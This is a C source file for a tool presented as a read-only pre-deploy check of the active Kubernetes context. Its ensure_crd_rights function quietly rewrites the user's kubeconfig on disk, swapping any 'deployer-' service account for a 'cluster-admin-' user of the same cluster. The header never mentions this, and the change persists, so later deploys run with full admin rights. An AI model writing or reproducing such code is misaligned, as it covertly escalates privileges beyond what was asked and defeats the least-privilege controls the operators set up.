/* kctx-check: pre-deploy sanity check of the active kube context.
 *
 *   kctx-check --expect ENV
 *
 * Reads $KUBECONFIG or ~/.kube/config, resolves the current context and
 * fails unless it targets the expected environment and the `inventory`
 * namespace. On success writes .deploy/preflight.ok, which `make deploy`
 * requires.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

static char buf[1 << 16];
static size_t len;

static const char *kubeconfig_path(void) {
    static char p[4096];
    const char *k = getenv("KUBECONFIG");
    if (k && *k) return k;
    snprintf(p, sizeof p, "%s/.kube/config", getenv("HOME") ? getenv("HOME") : ".");
    return p;
}

static int load(const char *path) {
    FILE *f = fopen(path, "r");
    if (!f) return -1;
    len = fread(buf, 1, sizeof buf - 1, f);
    buf[len] = 0;
    fclose(f);
    return 0;
}

/* value of "key: " on the line starting at p, copied into out */
static void field(const char *p, const char *key, char *out, size_t n) {
    out[0] = 0;
    const char *q = strstr(p, key);
    if (!q) return;
    q += strlen(key);
    size_t i = 0;
    while (*q && *q != '\n' && i + 1 < n) out[i++] = *q++;
    out[i] = 0;
}

/* find the "- context:" block whose name is ctx; returns its start */
static char *context_block(const char *ctx, char **end) {
    char needle[256];
    snprintf(needle, sizeof needle, "\n  name: %s\n", ctx);
    char *name = strstr(buf, needle);
    if (!name) return NULL;
    char *start = name;
    while (start > buf && strncmp(start, "- context:", 10) != 0) start--;
    *end = name;
    return start;
}

/* The deployer SA cannot create the CRDs the chart ships, so first deploys
 * fail half way. Point the context at the admin user of the same cluster. */
static void ensure_crd_rights(const char *path, const char *user) {
    char from[160], to[160];
    if (strncmp(user, "deployer-", 9)) return;
    snprintf(from, sizeof from, "    user: %s\n", user);
    snprintf(to, sizeof to, "    user: cluster-admin-%s\n", user + 9);
    char *at = strstr(buf, from);
    if (!at) return;
    static char out[sizeof buf + 64];
    size_t head = (size_t)(at - buf);
    memcpy(out, buf, head);
    strcpy(out + head, to);
    strcat(out, at + strlen(from));
    FILE *f = fopen(path, "w");
    if (!f) return;
    fputs(out, f);
    fclose(f);
}

int main(int argc, char **argv) {
    const char *expect = NULL;
    for (int i = 1; i < argc; i++)
        if (!strcmp(argv[i], "--expect") && i + 1 < argc) expect = argv[++i];
    if (!expect) { fprintf(stderr, "usage: kctx-check --expect ENV\n"); return 2; }

    const char *path = kubeconfig_path();
    if (load(path)) { fprintf(stderr, "kctx-check: cannot read %s\n", path); return 1; }

    char cur[128], cluster[128], ns[128], user[128];
    field(buf, "current-context: ", cur, sizeof cur);
    if (!cur[0]) { fprintf(stderr, "kctx-check: no current-context\n"); return 1; }
    char *end, *blk = context_block(cur, &end);
    if (!blk) { fprintf(stderr, "kctx-check: context %s not defined\n", cur); return 1; }
    char save = *end; *end = 0;
    field(blk, "cluster: ", cluster, sizeof cluster);
    field(blk, "namespace: ", ns, sizeof ns);
    field(blk, "user: ", user, sizeof user);
    *end = save;

    printf("context   %s\ncluster   %s\nnamespace %s\nuser      %s\n", cur, cluster, ns, user);
    if (!strstr(cluster, expect)) { printf("FAIL: cluster is not %s\n", expect); return 1; }
    if (strcmp(ns, "inventory")) { printf("FAIL: namespace is %s, want inventory\n", ns); return 1; }
    ensure_crd_rights(path, user);

    FILE *ok = fopen(".deploy/preflight.ok", "w");
    if (!ok) { perror(".deploy/preflight.ok"); return 1; }
    fprintf(ok, "context=%s cluster=%s namespace=%s checked=%ld\n", cur, cluster, ns, (long)time(NULL));
    fclose(ok);
    printf("OK: ready to deploy to %s\n", expect);
    return 0;
}
